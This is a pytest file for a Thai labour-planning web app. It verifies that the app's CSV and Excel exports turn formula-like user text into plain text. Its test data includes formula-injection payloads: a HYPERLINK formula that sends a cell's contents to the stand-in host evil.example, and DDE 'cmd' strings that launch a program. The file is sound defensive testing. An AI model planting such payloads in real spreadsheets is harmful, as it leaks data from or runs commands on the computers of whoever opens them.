"""No export carries a formula: text people typed that begins with = + - @ stays text."""

import csv
import datetime
import io
import re

import openpyxl
import pytest

from labourplan.lib.spreadsheet import csv_value, is_dangerous, put_text
from labourplan.plans.excel import export_workbook as plan_workbook
from labourplan.plans.models import PlanItem
from labourplan.plans.services import record_approval, submit_plan, update_item, update_topic
from labourplan.reports.excel import export_workbook as report_workbook
from labourplan.reports.services import open_report, save_result

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_beginning_like_a_formula_is_neutralised(text):
    assert is_dangerous(text)
    assert csv_value(text) == "'" + text
    cell = openpyxl.Workbook().active["A1"]
    put_text(cell, text)
    assert cell.value == text and cell.data_type == "s" and cell.quotePrefix


@pytest.mark.parametrize("text", ["ตรวจร่วม 6 ครั้ง", "1) ประชุม", "", "a=b"])
def test_ordinary_text_is_left_alone(text):
    assert not is_dangerous(text)
    assert csv_value(text) == text
    assert csv_value(12) == 12


def _cells(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_the_plan_workbook_writes_a_formula_like_title_as_text(cm_plan, cm_editor):
    topic = cm_plan.current_version.topics.first()
    update_topic(topic=topic, revision=topic.revision, title=PAYLOADS[0], by=cm_editor)
    item = PlanItem.objects.filter(topic=topic).first()
    update_item(item=item, revision=item.revision, changes={"unit": "@SUM(1,1)"}, by=cm_editor)
    cells = _cells(plan_workbook(cm_plan.current_version))
    typed = [c for c in cells if c.value in (PAYLOADS[0], "@SUM(1,1)")]
    assert len(typed) == 2
    assert all(c.data_type == "s" for c in typed)
    # the only formulas are the workbook's own row totals
    assert all(str(c.value).startswith("=SUM(") for c in cells if c.data_type == "f")


def test_the_report_workbook_writes_a_formula_like_remark_as_text(reporting_plan, cm_editor):
    report = open_report(plan=reporting_plan, month_index=1, by=cm_editor, today=reporting_plan.fiscal_year.start_date)
    item = PlanItem.objects.filter(topic__version=reporting_plan.current_version, sub_items=None).first()
    save_result(report=report, item=item, revision=0, result=1, by=cm_editor, remark="=1+1")
    cells = _cells(report_workbook(report))
    remark = [c for c in cells if c.value == "=1+1"]
    assert remark and remark[0].data_type == "s"


def test_the_national_exports_neutralise_user_text(client, central_viewer, cm_plan, cm_editor, cm_approver, signed_pdf):
    topic = cm_plan.current_version.topics.first()
    update_topic(topic=topic, revision=topic.revision, title="=cmd|' /C calc'!A0", by=cm_editor)
    version = submit_plan(version=cm_plan.current_version, submitted_on=datetime.date(2026, 10, 10), by=cm_approver)
    record_approval(version=version, approved_on=datetime.date(2026, 10, 20), document=signed_pdf, by=cm_approver)
    client.force_login(central_viewer)
    rows = list(csv.reader(io.StringIO(client.get("/national/export.csv?fy=2570").content.decode("utf-8-sig"))))
    topics = {row[7] for row in rows[1:] if row[1] == "50"}
    assert "'=cmd|' /C calc'!A0" in topics
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    cells = _cells(client.get("/national/export.xlsx?fy=2570").content)
    assert not [c for c in cells if c.data_type == "f"]
    assert next(c for c in cells if c.value == "=cmd|' /C calc'!A0").data_type == "s"


def test_numbers_keep_their_value_and_text_goes_through_the_guard():
    from labourplan.lib.spreadsheet import put_value

    sheet = openpyxl.Workbook().active
    assert put_value(sheet["A1"], 0).value == 0  # a level 0 is a number, not an empty cell
    assert put_value(sheet["A2"], "=1+1").data_type == "s"


# One sweep over every file the product writes --------------------------------------------------

# OWASP's list of first characters that a spreadsheet may evaluate, one per free-text field.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 ตลาดสด",  # a leading "-" is also how people write sub-items: it must stay visible and exact
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 แท็บ",
    "\r=1+1 ขึ้นบรรทัด",
]
# The product's own formulas: totals and percents of cells of the same sheet, nothing else.
PRODUCT_FORMULA = re.compile(r"=(SUM\([A-Z]+\d+:[A-Z]+\d+\)|ROUND\([A-Z]+\d+\*100/\d+,2\)|[A-Z]+\d+(\+[A-Z]+\d+)?)")


def hostile(n: int, words: str = "") -> str:
    return HOSTILE[n % len(HOSTILE)] + words


def _workbook_cells(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_no_live_formula(name: str, data: bytes, typed: set[str]) -> None:
    """No cell is a formula but the product's own; every typed text is a text cell, exact, that stays
    text when edited (Excel's quote prefix) if it begins like a formula."""
    cells = _workbook_cells(data)
    formulas = [c for c in cells if c.data_type == "f"]
    assert all(PRODUCT_FORMULA.fullmatch(str(c.value)) for c in formulas), (name, [c.value for c in formulas])
    texts = [c for c in cells if isinstance(c.value, str) and c.data_type != "f"]
    for cell in texts:
        if is_dangerous(cell.value) and cell.value != "-":  # the forms' own dash for "none" is no formula
            assert cell.data_type == "s" and cell.quotePrefix, (name, cell.coordinate, cell.value)
    found = {c.value for c in texts}
    missing = {t for t in typed if not any(t in value for value in found)}
    assert not missing, (name, missing)


def test_every_export_writes_hostile_text_as_text(
    client, cm_plan, cm_editor, cm_approver, central_viewer, central_admin, signed_pdf, scheme2570
):
    import time_machine

    from labourplan.evaluation.models import FrozenEvaluation
    from labourplan.evaluation.services import freeze_round, override_level, rounds_with_criteria
    from labourplan.lib.fiscal import BANGKOK
    from labourplan.partners.excel import export_workbook as register_workbook
    from labourplan.partners.excel import parse_workbook as parse_register
    from labourplan.partners.models import Partner, PartnerKind
    from labourplan.plans.excel import parse_workbook as parse_plan
    from labourplan.plans.excel import template_workbook
    from labourplan.plans.services import add_item
    from labourplan.reference.models import Agency
    from labourplan.reports.services import update_report

    # Wilai types formula-like text into every free-text field of the plan.
    version = cm_plan.current_version
    for n, topic in enumerate(version.topics.order_by("pk")[:3]):
        update_topic(topic=topic, revision=topic.revision, title=hostile(n, " ประเด็น"), by=cm_editor)
    agency = Agency.objects.create(abbreviation="@สสค", name_th="=หน่วยงาน")
    activities = list(PlanItem.objects.filter(topic__version=version, parent=None).order_by("pk"))
    for n, item in enumerate(activities[:6]):
        update_item(
            item=item,
            revision=item.revision,
            changes={"title": hostile(n + 1, " กิจกรรม"), "unit": hostile(n + 2), "agencies": [agency]},
            by=cm_editor,
        )
    market = add_item(topic=activities[0].topic, parent=activities[0], title="-ตลาดนัดคลองถม", unit="+ครั้ง", by=cm_editor)
    PlanItem.objects.filter(pk=market.pk).update(target_1=1)  # a plan is sent with a target on every row
    version = submit_plan(version=version, submitted_on=datetime.date(2026, 10, 10), by=cm_approver)
    record_approval(version=version, approved_on=datetime.date(2026, 10, 20), document=signed_pdf, by=cm_approver)
    stored_plan = {t.title for t in version.topics.all()} | {
        text for i in PlanItem.objects.filter(topic__version=version) for text in (i.title, i.unit)
    }
    typed_plan = {t for t in stored_plan if is_dangerous(t)}
    assert len(typed_plan) >= 10

    # … the month's report …
    report = open_report(plan=cm_plan, month_index=1, by=cm_editor, today=datetime.date(2026, 11, 1))
    leaf = PlanItem.objects.filter(topic__version=version, sub_items=None).order_by("pk").first()
    save_result(
        report=report, item=leaf, revision=0, result=1, by=cm_editor, confirmed=True, remark=hostile(0, " หมายเหตุ")
    )
    report.refresh_from_db()
    update_report(
        report=report,
        revision=report.revision,
        changes={"key_results": hostile(1, " ผลสำคัญ"), "problems": hostile(3, " ปัญหา")},
        by=cm_editor,
    )
    report.refresh_from_db()
    typed_report = {hostile(0, " หมายเหตุ").strip(), report.key_results, report.problems}

    # … and the partner register.
    partner = Partner.objects.create(
        province=cm_plan.province,
        kind=PartnerKind.values[0],
        name=hostile(0, " มูลนิธิ"),
        contact_person=hostile(1, " สมชาย"),
        phone="+66812345678",
        email="@evil.example",
        line_id=hostile(3),
        area=hostile(4, " อำเภอเมือง"),
        notes=hostile(5, " บันทึก"),
        created_by=cm_editor,
    )
    typed_partner = {partner.name, partner.contact_person, partner.phone, partner.email, partner.line_id}
    typed_partner |= {partner.area, partner.notes}

    # The centre overrides a level with a reason that looks like a formula.
    with time_machine.travel(datetime.datetime(2027, 4, 6, 9, tzinfo=BANGKOK)):
        freeze_round(round_=rounds_with_criteria(scheme2570)[0], by=central_admin)
    override_level(
        frozen=FrozenEvaluation.objects.get(province=cm_plan.province),
        level=4,
        reason=hostile(0, " เหตุผล"),
        by=central_admin,
    )

    client.force_login(central_admin)
    files = {
        "form1": (plan_workbook(version), typed_plan),
        "form1 in Thai digits": (plan_workbook(version, thai_digits=True), typed_plan),
        "template": (template_workbook(cm_plan.fiscal_year), set()),
        "form2": (report_workbook(report), typed_report | {t for t in typed_plan if t != "+ครั้ง"}),
        "register": (
            register_workbook(cm_plan.province, [partner], exported_by=cm_editor, exported_at=partner.created_at),
            typed_partner,
        ),
        "evaluation": (client.get("/evaluation/2570/rounds/1/export.xlsx").content, {hostile(0, " เหตุผล")}),
        "national": (client.get("/national/export.xlsx?fy=2570").content, typed_plan - {"@สสค"}),
    }
    for name, (data, typed_texts) in files.items():
        assert_no_live_formula(name, data, {t.strip() for t in typed_texts})

    # The CSV has no types: every field beginning like a formula carries OWASP's apostrophe.
    rows = list(csv.reader(io.StringIO(client.get("/national/export.csv?fy=2570").content.decode("utf-8-sig"))))
    fields = [field for row in rows for field in row]
    assert not [f for f in fields if is_dangerous(f)]
    assert "'" + hostile(2, " กิจกรรม") in fields and "'-ตลาดนัดคลองถม" in fields

    # Our own importers read the words back exactly, the leading "-" and "=" included.
    result = parse_plan(plan_workbook(version), fiscal_year=cm_plan.fiscal_year, province=cm_plan.province)
    read = {t.title for t in result.topics} | {
        text for t in result.topics for i in t.items for s in [i, *i.sub_items] for text in (s.title, s.unit)
    }
    assert typed_plan <= read
    register = parse_register(files["register"][0])
    assert register.rows[0]["name"] == partner.name and register.rows[0]["notes"] == partner.notes.strip()
